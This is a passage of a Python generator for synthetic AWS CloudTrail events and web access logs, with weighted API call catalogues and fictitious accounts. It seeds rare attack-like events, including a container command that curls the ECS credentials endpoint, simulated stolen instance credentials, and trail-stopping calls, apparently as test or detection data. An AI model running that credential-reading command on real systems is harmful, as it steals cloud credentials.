    if name in ("FilterLogEvents", "GetLogEvents", "StartQuery"):
        return {"logGroupName": g, "startTime": 1793491200000 + randrange(10 ** 8), "filterPattern": choice(["ERROR", "\"status=500\"", "Exception", ""])}, None, None
    return {"logGroupName": g}, None, None


def b_lambda(ev, p, region):
    fn = choice(FUNCTIONS)
    name = ev["eventName"]
    farn = arn("lambda", region, p.account, "function:" + fn)
    if name == "Invoke":
        ev["eventCategory"] = "Data"
        ev["managementEvent"] = False
        ev["readOnly"] = False
        return {"functionName": farn, "invocationType": choice(["RequestResponse", "Event"]), "logType": "None"}, None, [{"accountId": p.account, "type": "AWS::Lambda::Function", "ARN": farn}]
    if name.startswith("UpdateFunctionConfiguration"):
        req = {"functionName": fn, "memorySize": choice([256, 512, 1024]), "timeout": choice([30, 60, 900])}
        if rand() < .3:
            req["layers"] = [arn("lambda", region, p.account, "layer:%s:%d" % (choice(["otel-collector", "datadog-extension", "shared-libs"]), randrange(1, 40)))]
        return req, {"functionName": fn, "functionArn": farn, "runtime": choice(["python3.11", "nodejs20.x", "provided.al2023"]),
                     "role": "arn:aws:iam::%s:role/lambda-%s-exec" % (p.account, fn), "handler": "app.handler", "codeSize": randrange(10 ** 5, 10 ** 7),
                     "lastModified": "2026-11-0%dT10:00:00.000+0000" % randrange(1, 9), "state": "Active"}, None
    return {"functionName": fn}, None, None


def b_generic(ev, p, region):
    name = ev["eventName"]
    svc = ev["eventSource"].split(".")[0]
    if name.startswith(("Describe", "List", "Get", "BatchGet", "Lookup", "Select")):
        r = rand()
        if r < .35:
            return None, None, None
        if r < .7:
            return {"maxResults": choice([20, 50, 100])}, None, None
        return {GENERIC_KEY.get(svc, "resourceArn"): GENERIC_VAL.get(svc, lambda p, region: arn(svc, region, p.account, hexid(10)))(p, region)}, None, None
    val = GENERIC_VAL.get(svc, lambda p, region: arn(svc, region, p.account, hexid(10)))(p, region)
    return ({GENERIC_KEY.get(svc, "resourceArn"): val, "clientRequestToken": uuid4()},
            {GENERIC_KEY.get(svc, "resourceArn"): val, "status": choice(["CREATING", "UPDATING", "ACTIVE", "PENDING"])}, None)


GENERIC_KEY = {"dynamodb": "tableName", "ecr": "repositoryName", "ecs": "cluster", "eks": "name", "ssm": "name",
               "secretsmanager": "secretId", "rds": "dBInstanceIdentifier", "cloudformation": "stackName",
               "monitoring": "alarmNames", "elasticloadbalancing": "targetGroupArn", "autoscaling": "autoScalingGroupName",
               "sqs": "queueUrl", "sns": "topicArn", "cloudtrail": "trailNameList", "glue": "databaseName",
               "athena": "queryExecutionId", "route53": "hostedZoneId", "guardduty": "detectorId", "bedrock": "modelId",
               "config": "configRuleNames", "elasticfilesystem": "fileSystemId", "elasticache": "cacheClusterId",
               "codebuild": "ids", "kinesis": "streamName", "firehose": "deliveryStreamName", "apigateway": "restApiId",
               "ses": "identity", "organizations": "accountId", "sso": "accountId", "tagging": "resourceTypeFilters",
               "health": "filter", "account": "regionName", "securityhub": "findingIdentifiers", "acm": "certificateArn"}
GENERIC_VAL = {
    "dynamodb": lambda p, r: choice(TABLES), "ecr": lambda p, r: choice(REPOS), "ecs": lambda p, r: "arn:aws:ecs:%s:%s:cluster/%s" % (r, p.account, choice(["api", "worker"])),
    "eks": lambda p, r: choice(CLUSTERS), "ssm": lambda p, r: choice(PARAMS),
    "secretsmanager": lambda p, r: arn("secretsmanager", r, p.account, "secret:%s-%s" % (choice(SECRETS), hexid(6))),
    "rds": lambda p, r: choice(DB_INSTANCES), "cloudformation": lambda p, r: choice(STACKS),
    "monitoring": lambda p, r: ["%s-%s" % (choice(FUNCTIONS), choice(["errors", "p99-latency", "throttles"]))],
    "elasticloadbalancing": lambda p, r: arn("elasticloadbalancing", r, p.account, "targetgroup/k8s-%s/%s" % (choice(REPOS), hexid(16))),
    "autoscaling": lambda p, r: "eks-%s-%s" % (choice(CLUSTERS), uuid4()),
    "sqs": lambda p, r: "https://sqs.%s.amazonaws.com/%s/%s" % (r, p.account, choice(["orders", "emails", "thumbnails-dlq", "events"])),
    "sns": lambda p, r: arn("sns", r, p.account, choice(["alerts", "orders-created", "cost-anomaly"])),
    "cloudtrail": lambda p, r: ["arn:aws:cloudtrail:us-east-1:%s:trail/org-trail" % ACCOUNTS[0]],
    "glue": lambda p, r: choice(["raw", "curated", "default"]), "athena": lambda p, r: uuid4(),
    "route53": lambda p, r: "Z0%s" % key_id("", 18), "guardduty": lambda p, r: hexid(32),
    "bedrock": lambda p, r: choice(["anthropic.claude-3-5-sonnet-20240620-v1:0", "amazon.titan-embed-text-v2:0"]),
    "config": lambda p, r: ["securityhub-%s-%s" % (choice(["s3-bucket-ssl-requests-only", "iam-root-access-key-check", "ec2-imdsv2-check"]), hexid(6))],
    "elasticfilesystem": lambda p, r: "fs-0" + hexid(16), "elasticache": lambda p, r: "sessions-%04d-001" % randrange(3),
    "codebuild": lambda p, r: ["web-build:" + uuid4()], "kinesis": lambda p, r: "clickstream", "firehose": lambda p, r: "logs-to-s3",
    "apigateway": lambda p, r: hexid(10), "ses": lambda p, r: choice(["acme-corp.com", "noreply@acme-corp.com"]),
    "organizations": lambda p, r: choice(ACCOUNTS), "sso": lambda p, r: choice(ACCOUNTS), "tagging": lambda p, r: ["ec2:instance"],
    "health": lambda p, r: {"eventStatusCodes": ["open", "upcoming"]}, "account": lambda p, r: choice(["af-south-1", "me-central-1", "ap-east-1"]),
    "securityhub": lambda p, r: [{"Id": arn("securityhub", r, p.account, "subscription/aws-foundational-security-best-practices/v/1.0.0/S3.8/finding/" + uuid4()),
                                  "ProductArn": "arn:aws:securityhub:%s::product/aws/securityhub" % r}],
    "acm": lambda p, r: arn("acm", r, p.account, "certificate/" + uuid4()),
}


def b_ssm(ev, p, region):
    name = ev["eventName"]
    if name == "SendCommand":
        return ({"documentName": choice(["AWS-RunShellScript", "AWS-RunPowerShellScript", "AWS-RunPatchBaseline"]),
                 "instanceIds": ["i-0" + hexid(16)], "parameters": "HIDDEN_DUE_TO_SECURITY_REASONS", "interactive": False},
                {"command": {"commandId": uuid4(), "documentName": "AWS-RunShellScript", "status": "Pending", "targetCount": 1}}, None)
    if name in ("GetParameter", "GetParameters", "GetParametersByPath"):
        if name == "GetParameters":
            return {"names": R.sample(PARAMS, 2), "withDecryption": True}, None, None
        return {"name" if name == "GetParameter" else "path": choice(PARAMS), "withDecryption": rand() < .6}, None, None
    if name == "UpdateInstanceInformation":
        return ({"instanceId": "i-0" + hexid(16), "agentVersion": "3.3.%d.0" % randrange(900, 1200), "agentStatus": "Active",
                 "platformType": "Linux", "platformName": "Amazon Linux", "platformVersion": "2023", "iPAddress": "10.%d.%d.%d" % (randrange(256), randrange(256), randrange(255)),
                 "computerName": "ip-10-%d-%d-%d.ec2.internal" % (randrange(256), randrange(256), randrange(255)), "agentName": "amazon-ssm-agent",
                 "availabilityZone": region + choice(AZ), "availabilityZoneId": "use1-az%d" % randrange(1, 7)}, None, None)
    return b_generic(ev, p, region)


def b_signin(ev, p, region):
    u = choice([x for x in USERS if x.human and x.account == ACCOUNTS[0]] or USERS)
    ev["userIdentity"] = {"type": "IAMUser", "principalId": u.ident["principalId"], "arn": u.ident["arn"],
                          "accountId": u.account, "userName": u.name}
    ev["userAgent"] = choice(BROWSERS)
    ev["sourceIPAddress"] = choice(u.ips)
    ev["eventType"] = "AwsConsoleSignIn"
    if ev["eventName"] == "ConsoleLogin":
        ok = rand() < .93
        mfa = "Yes" if rand() < .85 else "No"
        ev["additionalEventData"] = {"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
                                     "MobileVersion": "No", "MFAIdentifier": "arn:aws:iam::%s:mfa/%s" % (u.account, u.name), "MFAUsed": mfa}
        if mfa == "No":
            del ev["additionalEventData"]["MFAIdentifier"]
        if not ok:
            ev["errorMessage"] = "Failed authentication"
        return None, {"ConsoleLogin": "Success" if ok else "Failure"}, None
    if ev["eventName"] == "GetSigninToken" and rand() < .8:
        ev["userAgent"] = "Jersey/${project.version}"
    return None, {"GetSigninToken": "Success"}, None


def b_cloudtrail(ev, p, region):
    name = ev["eventName"]
    trail = "arn:aws:cloudtrail:us-east-1:%s:trail/%s" % (p.account, choice(["org-trail", "management-events", "data-events-s3"]))
    if name in ("StopLogging", "StartLogging", "DeleteTrail", "GetTrailStatus"):
        return {"name": trail}, None, None
    if name == "UpdateTrail":
        return {"name": trail, "isMultiRegionTrail": True, "enableLogFileValidation": rand() < .5}, {"name": trail.split("/")[-1], "s3BucketName": "acme-cloudtrail-archive", "trailARN": trail}, None
    if name == "LookupEvents":
        return {"lookupAttributes": [{"attributeKey": choice(["EventName", "Username", "ResourceName"]), "attributeValue": choice(["ConsoleLogin", "RunInstances", choice(HUMANS)])}],
                "maxResults": 50}, None, None
    return b_generic(ev, p, region)


def b_guardduty(ev, p, region):
    if ev["eventName"] == "UpdateDetector":
        return {"detectorId": hexid(32), "enable": rand() < .6, "findingPublishingFrequency": "FIFTEEN_MINUTES"}, None, None
    return b_generic(ev, p, region)


def b_rds(ev, p, region):
    if ev["eventName"] == "ModifyDBInstance":
        pw = rand() < .3
        req = {"dBInstanceIdentifier": choice(DB_INSTANCES), "applyImmediately": True}
        pend = {}
        if pw:
            req["masterUserPassword"] = "****"
            pend["masterUserPassword"] = "****"
        else:
            req["dBInstanceClass"] = "db.r6g.xlarge"
            pend["dBInstanceClass"] = "db.r6g.xlarge"
        return req, {"dBInstanceIdentifier": req["dBInstanceIdentifier"], "dBInstanceStatus": "available", "engine": "postgres",
                     "pendingModifiedValues": pend, "publiclyAccessible": False}, None
    return b_generic(ev, p, region)


def b_ecs(ev, p, region):
    name = ev["eventName"]
    if name in ("RegisterTaskDefinition", "RunTask"):
        cmd = ["python", "-m", "worker"]
        if rand() < .03:
            cmd = ["/bin/sh", "-c", "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]
        return ({"family": choice(["api", "worker", "migrate"]), "networkMode": "awsvpc", "requiresCompatibilities": ["FARGATE"], "cpu": "512", "memory": "1024",
                 "containerDefinitions": [{"name": "app", "image": "%s.dkr.ecr.%s.amazonaws.com/%s:%s" % (p.account, region, choice(REPOS), hexid(7)),
                                           "command": cmd, "essential": True}]}, None, None)
    if name == "SubmitTaskStateChange":
        return ({"cluster": "api", "task": "arn:aws:ecs:%s:%s:task/api/%s" % (region, p.account, hexid(32)), "status": "RUNNING",
                 "containers": [{"containerName": "app", "status": "RUNNING", "runtimeId": hexid(32) + "-" + hexid(10)}]}, {"acknowledgment": "ACK"}, None)
    return b_generic(ev, p, region)


def b_securityhub(ev, p, region):
    if ev["eventName"] == "BatchImportFindings":
        return {"findings": [{"Id": uuid4(), "ProductArn": "arn:aws:securityhub:%s::product/aws/guardduty" % region, "Severity": {"Label": choice(["LOW", "MEDIUM"])}}]}, \
            {"failedCount": 0, "successCount": 1, "failedFindings": []}, None
    return b_generic(ev, p, region)


# (service, weight per 100k, [(eventName, weight), ...], builder)
CATALOG = [
    ("sts", [("AssumeRole", 9000), ("GetCallerIdentity", 3500), ("AssumeRoleWithWebIdentity", 1500),
             ("GetSessionToken", 40), ("AssumeRoleWithSAML", 60), ("GetFederationToken", 5)], None),
    ("kms", [("Decrypt", 8000), ("GenerateDataKey", 5000), ("Encrypt", 500), ("DescribeKey", 700), ("ListAliases", 150),
             ("ImportKeyMaterial", 1), ("ScheduleKeyDeletion", 2)], b_kms),
    ("s3", [("GetObject", 6000), ("PutObject", 2500), ("HeadObject", 1500), ("ListObjects", 1200), ("DeleteObject", 300),
            ("GetBucketLocation", 800), ("GetBucketAcl", 1200), ("GetBucketPolicy", 300), ("GetBucketVersioning", 300),
            ("GetBucketEncryption", 300), ("ListBuckets", 250), ("GetBucketTagging", 300), ("GetBucketPublicAccessBlock", 300),
            ("PutBucketVersioning", 4), ("DeleteBucket", 3), ("CreateBucket", 5), ("PutBucketPolicy", 5), ("PutBucketLogging", 2),
            ("PutLifecycleConfiguration", 3)], b_s3),
    ("ec2", [("DescribeInstances", 3000), ("DescribeSecurityGroups", 1200), ("DescribeVpcs", 800), ("DescribeSubnets", 800),
             ("DescribeNetworkInterfaces", 1500), ("DescribeVolumes", 600), ("DescribeSnapshots", 400), ("DescribeImages", 500),
             ("DescribeTags", 600), ("DescribeRegions", 400), ("DescribeAvailabilityZones", 400), ("DescribeInstanceStatus", 500),
             ("DescribeLaunchTemplateVersions", 300), ("DescribeAddresses", 200), ("DescribeRouteTables", 300),
             ("DescribeNetworkAcls", 100), ("DescribeInstanceTypes", 200),
             ("RunInstances", 80), ("TerminateInstances", 60), ("StartInstances", 40), ("StopInstances", 40), ("CreateTags", 300),
             ("CreateNetworkInterface", 150), ("DeleteNetworkInterface", 150), ("AttachVolume", 30), ("CreateSnapshot", 40),
             ("AuthorizeSecurityGroupIngress", 8), ("RevokeSecurityGroupIngress", 3), ("AuthorizeSecurityGroupEgress", 2),
             ("ModifyInstanceAttribute", 10), ("CreateRoute", 2), ("CreateNetworkAclEntry", 1), ("ImportKeyPair", 1),
             ("CreateKeyPair", 3), ("ModifySnapshotAttribute", 1), ("DisableEbsEncryptionByDefault", 0.2),
             ("DeleteFlowLogs", 0.5), ("CreateFlowLogs", 1), ("CreateInstanceExportTask", 0.2)], None),
    ("iam", [("GetRole", 800), ("ListRoles", 200), ("GetPolicy", 300), ("GetPolicyVersion", 300), ("ListAttachedRolePolicies", 400),
             ("ListRolePolicies", 200), ("GetUser", 150), ("ListUsers", 100), ("ListAccessKeys", 100), ("GenerateCredentialReport", 30),
             ("GetAccountAuthorizationDetails", 10), ("ListMFADevices", 50), ("GetInstanceProfile", 100), ("CreateRole", 20),
             ("AttachRolePolicy", 20), ("PutRolePolicy", 20), ("TagRole", 10), ("CreateUser", 3), ("CreateAccessKey", 5),
             ("DeleteAccessKey", 5), ("UpdateAccessKey", 3), ("CreateLoginProfile", 2), ("UpdateLoginProfile", 1),
             ("GetLoginProfile", 5), ("DeleteSAMLProvider", 0.2), ("UpdateSAMLProvider", 0.2), ("PutUserPolicy", 1),
             ("CreatePolicyVersion", 5)], b_iam),
    ("logs", [("CreateLogStream", 2500), ("DescribeLogGroups", 600), ("DescribeLogStreams", 600), ("CreateLogGroup", 100),
              ("FilterLogEvents", 200), ("GetLogEvents", 200), ("PutRetentionPolicy", 20), ("StartQuery", 50),
              ("GetQueryResults", 150)], b_logs),
    ("monitoring", [("GetMetricData", 1500), ("DescribeAlarms", 600), ("ListMetrics", 400), ("PutMetricAlarm", 20),
                    ("GetMetricStatistics", 500)], None),
    ("lambda", [("Invoke", 1000), ("GetFunction", 300), ("ListFunctions20150331", 200), ("GetFunctionConfiguration", 150),
                ("UpdateFunctionCode20150331v2", 20), ("UpdateFunctionConfiguration20150331v2", 20),
                ("CreateFunction20150331", 5), ("CreateFunctionUrlConfig", 0.5), ("AddPermission20150331v2", 5)], b_lambda),
    ("dynamodb", [("DescribeTable", 1000), ("ListTables", 200), ("DescribeContinuousBackups", 50), ("UpdateTable", 10),
                  ("CreateBackup", 10), ("DescribeTimeToLive", 50)], None),
    ("ecr", [("GetAuthorizationToken", 1500), ("BatchGetImage", 600), ("GetDownloadUrlForLayer", 800),
             ("BatchCheckLayerAvailability", 200), ("PutImage", 30), ("DescribeRepositories", 100), ("DescribeImages", 100)], None),
    ("ecs", [("DescribeTasks", 400), ("ListTasks", 300), ("DescribeServices", 300), ("DescribeClusters", 200), ("RunTask", 20),
             ("RegisterTaskDefinition", 10), ("DescribeTaskDefinition", 100), ("SubmitTaskStateChange", 200), ("UpdateService", 10)], b_ecs),
    ("eks", [("DescribeCluster", 400), ("ListClusters", 50), ("DescribeNodegroup", 100), ("ListNodegroups", 50),
             ("CreateCluster", 0.3), ("DeleteCluster", 0.2)], None),
    ("ssm", [("GetParameter", 1200), ("GetParameters", 800), ("GetParametersByPath", 400), ("DescribeInstanceInformation", 200),
             ("UpdateInstanceInformation", 600), ("ListAssociations", 300), ("ListInstanceAssociations", 300), ("SendCommand", 8),
             ("StartSession", 8), ("PutParameter", 20)], b_ssm),
    ("secretsmanager", [("GetSecretValue", 1200), ("DescribeSecret", 300), ("ListSecrets", 100), ("PutSecretValue", 10),
                        ("RotateSecret", 5)], None),
    ("sqs", [("ListQueues", 100), ("GetQueueAttributes", 200), ("CreateQueue", 5), ("SetQueueAttributes", 5)], None),
    ("sns", [("ListTopics", 50), ("GetTopicAttributes", 100), ("ListSubscriptionsByTopic", 50), ("Subscribe", 3)], None),
    ("elasticloadbalancing", [("DescribeLoadBalancers", 500), ("DescribeTargetGroups", 400), ("DescribeTargetHealth", 600),
                              ("DescribeListeners", 200), ("RegisterTargets", 50), ("DeregisterTargets", 50),
                              ("ModifyTargetGroup", 5), ("SetSecurityGroups", 1)], None),
    ("autoscaling", [("DescribeAutoScalingGroups", 600), ("DescribeAutoScalingInstances", 200), ("DescribeLaunchConfigurations", 100),
                     ("UpdateAutoScalingGroup", 10), ("SetDesiredCapacity", 10), ("CompleteLifecycleAction", 20)], None),
    ("rds", [("DescribeDBInstances", 500), ("DescribeDBClusters", 300), ("DescribeDBSnapshots", 100), ("DescribeDBEngineVersions", 100),
             ("CreateDBSnapshot", 10), ("ModifyDBInstance", 3), ("ModifyDBCluster", 2), ("RestoreDBInstanceFromDBSnapshot", 0.5),
             ("DeleteDBCluster", 0.2)], b_rds),
    ("cloudformation", [("DescribeStacks", 600), ("ListStacks", 100), ("DescribeStackEvents", 300), ("GetTemplate", 100),
                        ("DescribeStackResources", 100), ("CreateChangeSet", 10), ("ExecuteChangeSet", 10), ("UpdateStack", 5)], None),
    ("config", [("PutEvaluations", 300), ("DescribeConfigRules", 100), ("DescribeConfigurationRecorders", 50),
                ("SelectResourceConfig", 50), ("StopConfigurationRecorder", 0.2), ("DeleteDeliveryChannel", 0.1)], None),
    ("cloudtrail", [("LookupEvents", 300), ("DescribeTrails", 150), ("GetTrailStatus", 100), ("GetEventSelectors", 80),
                    ("ListTrails", 50), ("StopLogging", 0.5), ("UpdateTrail", 1), ("DeleteTrail", 0.2), ("StartLogging", 0.5),
                    ("CreateTrail", 0.2)], b_cloudtrail),
    ("signin", [("ConsoleLogin", 150), ("GetSigninToken", 10), ("SwitchRole", 40)], b_signin),
    ("sso", [("GetRoleCredentials", 200), ("ListAccounts", 100), ("ListAccountRoles", 100)], None),
    ("organizations", [("DescribeOrganization", 200), ("ListAccounts", 100), ("DescribeAccount", 50)], None),
    ("guardduty", [("ListDetectors", 150), ("GetDetector", 100), ("GetFindings", 100), ("ListFindings", 100), ("CreateIPSet", 0.2),
                   ("UpdateDetector", 0.3), ("DeleteDetector", 0.1)], b_guardduty),
    ("securityhub", [("GetFindings", 200), ("BatchImportFindings", 400), ("BatchUpdateFindings", 5), ("DescribeHub", 50),
                     ("GetEnabledStandards", 50)], b_securityhub),
    ("route53", [("ListHostedZones", 100), ("ListResourceRecordSets", 300), ("GetHostedZone", 100), ("ChangeResourceRecordSets", 30),
                 ("GetChange", 60)], None),
    ("tagging", [("GetResources", 400)], None),
    ("health", [("DescribeEvents", 100), ("DescribeEventAggregates", 100)], None),
    ("elasticfilesystem", [("DescribeFileSystems", 100), ("DescribeMountTargets", 100), ("DeleteFileSystem", 0.2),
                           ("DeleteMountTarget", 0.3)], None),
    ("elasticache", [("DescribeCacheClusters", 150), ("DescribeReplicationGroups", 100), ("CreateCacheSecurityGroup", 0.1)], None),
    ("glue", [("GetTable", 200), ("GetDatabase", 100), ("GetPartitions", 150), ("StartJobRun", 30), ("GetJobRun", 100),
              ("CreateDevEndpoint", 0.1)], None),
    ("bedrock", [("InvokeModel", 200), ("ListFoundationModels", 30), ("GetGuardrail", 20), ("UpdateGuardrail", 0.5),
                 ("DeleteGuardrail", 0.1)], None),
    ("ses", [("ListIdentities", 30), ("GetIdentityVerificationAttributes", 30), ("VerifyEmailIdentity", 1), ("DeleteIdentity", 0.2)], None),
    ("account", [("GetAlternateContact", 10), ("ListRegions", 10), ("EnableRegion", 0.1)], None),
    ("kinesis", [("DescribeStream", 200), ("ListStreams", 50)], None),
    ("firehose", [("DescribeDeliveryStream", 100)], None),
    ("apigateway", [("GetRestApis", 100), ("GetStages", 50)], None),
    ("athena", [("StartQueryExecution", 150), ("GetQueryExecution", 400), ("GetQueryResults", 200)], None),
    ("codebuild", [("BatchGetBuilds", 100), ("StartBuild", 20)], None),
    ("acm", [("DescribeCertificate", 50), ("ListCertificates", 50)], None),
]

CT_EVENTS = None
ERRORS = [("AccessDenied", "User: {arn} is not authorized to perform: {svc}:{name} on resource: {res} because no identity-based policy allows the {svc}:{name} action", 50),
          ("Client.UnauthorizedOperation", "You are not authorized to perform this operation. User: {arn} is not authorized to perform: ec2:{name} because no identity-based policy allows the ec2:{name} action. Encoded authorization failure message: " , 10),
          ("ThrottlingException", "Rate exceeded", 15), ("ResourceNotFoundException", "Requested resource not found", 10),
          ("NoSuchEntityException", "The role with name {role} cannot be found.", 5), ("ValidationException", "1 validation error detected", 5),
          ("NoSuchBucketPolicy", "The bucket policy does not exist", 5), ("InvalidParameterValue", "Invalid value for parameter", 3)]
ERR_W = None


def ct_setup():
    global CT_EVENTS, ERR_W, USERS, SESSIONS
    pairs = []
    for svc, names, builder in CATALOG:
        for name, w in names:
            if builder is None:
                b = b_ec2_describe if svc == "ec2" and name.startswith("Describe") else b_ec2_write if svc == "ec2" else \
                    b_assume_role if name in ("AssumeRole", "AssumeRoleWithSAML") else b_web_identity if name == "AssumeRoleWithWebIdentity" else \
                    b_null if svc == "sts" else b_generic
            else:
                b = builder
            ro = name.startswith(("Describe", "List", "Get", "BatchGet", "Lookup", "Select", "Head")) or name in ("Decrypt", "GenerateDataKey", "Encrypt")
            pairs.append(((svc, name, b, ro), w))
    CT_EVENTS = Weighted(pairs)
    ERR_W = Weighted([(e[:2], e[2]) for e in ERRORS])
    USERS, SESSIONS = principal_tables()
    KMS_KEYS.extend(uuid4() for _ in range(40))
    VPCE.update((a, "vpce-0" + hexid(16)) for a in ACCOUNTS)


def cloudtrail_event(clock):
    svc, name, builder, ro = CT_EVENTS.pick()
    clock.tick()
    p = identity()
    region = "us-east-1" if svc in ("iam", "organizations", "route53", "health", "account") else REGIONS.pick()
    host = "%s.amazonaws.com" % svc
    ev = {"eventVersion": "1.09" if rand() < .6 else "1.08", "userIdentity": p.ident, "eventTime": clock.iso + "Z",
          "eventSource": host, "eventName": name, "awsRegion": region,
          "sourceIPAddress": source_ip(p), "userAgent": user_agent(p, svc, "%s.%s" % (svc, snake(name)))}
    r = rand()
    if r < 0.0002:  # root user at the console
        ev["userIdentity"] = {"type": "Root", "principalId": p.account, "arn": "arn:aws:iam::%s:root" % p.account,
                              "accountId": p.account, "accessKeyId": key_id("ASIA"),
                              "sessionContext": {"attributes": {"creationDate": clock.iso + "Z", "mfaAuthenticated": "true"}}}
        ev["userAgent"] = choice(BROWSERS)
    elif r < 0.0003:  # instance credentials taken from IMDS and used from outside
        iid = "i-0" + hexid(16)
        ev["userIdentity"] = {"type": "AssumedRole", "principalId": "AROA%s:%s" % (key_id("", 17), iid),
                              "arn": "arn:aws:sts::%s:assumed-role/aws:ec2-instance/%s" % (p.account, iid), "accountId": p.account,
                              "accessKeyId": key_id("ASIA"),
                              "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": key_id("AROA", 17),
                                                                   "arn": "arn:aws:iam::%s:role/aws:ec2-instance" % p.account,
                                                                   "accountId": p.account, "userName": "aws:ec2-instance"},
                                                 "attributes": {"creationDate": clock.iso + "Z", "mfaAuthenticated": "false"},
                                                 "ec2RoleDelivery": "2.0"}}
    elif r < 0.00035:
        ev["userAgent"] = "TruffleHog"
    elif r < 0.0004:
        ev["userAgent"] = "S3 Browser 11.5.7 https://s3browser.com"
    elif (svc == "sts" and name == "AssumeRole" and r < .4) or (svc == "kms" and r < .3):
        svcname = choice(["lambda", "ecs-tasks", "ec2", "eks", "states", "glue"] if svc == "sts" else
                         ["s3", "secretsmanager", "ebs", "cloudtrail", "logs", "dynamodb", "AWS Internal"])
        ev["userIdentity"] = {"type": "AWSService"}
        if svcname != "AWS Internal":
            svcname += ".amazonaws.com"
        ev["userIdentity"]["invokedBy"] = ev["sourceIPAddress"] = ev["userAgent"] = svcname
    if (svc == "sts" and name == "GetSessionToken") or (svc == "s3" and name == "ListBuckets" and rand() < .5):
        u = choice(USERS)
        ev["userIdentity"] = u.ident
        ev["sourceIPAddress"] = choice(u.ips)
    ev["readOnly"] = ro
    ev["eventType"] = "AwsApiCall"
    ev["managementEvent"] = True
    ev["eventCategory"] = "Management"
    req, resp, res = builder(ev, p, region)
    if rand() < 0.03 and svc != "signin":
        code, msg = ERR_W.pick()
        ev["errorCode"] = code
        ev["errorMessage"] = msg.format(arn=ev["userIdentity"].get("arn", "unknown"), svc=svc, name=name,
                                        res="arn:aws:%s:%s:%s:*" % (svc, region, p.account), role=choice(ROLES))
        resp = None
    out = {}
    for k in ("eventVersion", "userIdentity", "eventTime", "eventSource", "eventName", "awsRegion", "sourceIPAddress",
              "userAgent", "errorCode", "errorMessage"):
        if k in ev:
            out[k] = ev[k]
    out["requestParameters"] = req
    out["responseElements"] = resp
    if "additionalEventData" in ev:
        out["additionalEventData"] = ev["additionalEventData"]
    out["requestID"] = uuid4() if svc != "s3" else key_id("", 16)
    out["eventID"] = uuid4()
    out["readOnly"] = ev["readOnly"]
    if res:
        out["resources"] = res
    out["eventType"] = ev["eventType"]
    out["managementEvent"] = ev["managementEvent"]
    out["recipientAccountId"] = p.account
    if "sharedEventID" in ev:
        out["sharedEventID"] = ev["sharedEventID"]
    out["eventCategory"] = ev["eventCategory"]
    sip = ev["sourceIPAddress"]
    if sip.startswith("10."):  # from inside a VPC, through an interface endpoint
        out["vpcEndpointId"] = VPCE[p.account]
    elif not sip.endswith("amazonaws.com") and sip != "AWS Internal":
        t = choice(TLS)
        out["tlsDetails"] = {"tlsVersion": t["tlsVersion"], "cipherSuite": t["cipherSuite"],
                             "clientProvidedHostHeader": "%s.%s.amazonaws.com" % (SERVICE_HOST.get(svc, svc), region)}
        if p.human and ev["userAgent"].startswith(("console", "Mozilla", "S3Console", "AWS Internal")):
            out["sessionCredentialFromConsole"] = "true"
    return dumps(out)


# --------------------------------------------------------------------------
# nginx / Apache combined access log
# --------------------------------------------------------------------------

UA_WEB = Weighted([
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", 22),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", 7),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", 8),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", 6),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", 14),
    ("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36", 10),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36", 5),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", 2),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0", 4),
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 4),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/130.0.6723.116 Safari/537.36", 2),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 2),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 0.5),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 0.5),
    ("AcmeShop/5.12.1 (iPhone; iOS 18.1; Scale/3.00)", 5),
    ("okhttp/4.12.0", 4),
    ("Go-http-client/1.1", 1),
    ("python-requests/2.32.3", 1),
    ("curl/8.5.0", 0.5),
    ("kube-probe/1.29", 1),
    ("ELB-HealthChecker/2.0", 2),
    ("Datadog/Synthetics", 0.3),
    ("Prometheus/2.53.0", 0.3),
])
PAGES = ["/", "/", "/", "/shop", "/cart", "/checkout", "/account", "/account/orders", "/login", "/register", "/about",
         "/contact", "/help/shipping", "/help/returns", "/blog", "/deals", "/new-arrivals"]
CATEGORIES = ["electronics", "headphones", "laptops", "phones", "home-kitchen", "garden", "toys", "books", "sports",
              "outdoor", "fashion/men", "fashion/women", "beauty", "grocery", "pet-supplies"]
WORDS = ["wireless", "headphones", "usb-c", "charger", "running", "shoes", "coffee", "maker", "gaming", "mouse",
         "standing", "desk", "4k", "monitor", "air", "fryer", "yoga", "mat", "backpack", "lego", "kindle", "tent",
         "water", "bottle", "led", "lamp", "keyboard", "mechanical", "bluetooth", "speaker"]
ASSETS = ["/static/js/app.7f3c9a21.js", "/static/js/vendor.b41e2f0d.js", "/static/js/checkout.2a9d77e1.js",
          "/static/css/main.5c0e8b3f.css", "/static/css/checkout.91af3d2c.css", "/static/fonts/inter-var.woff2",
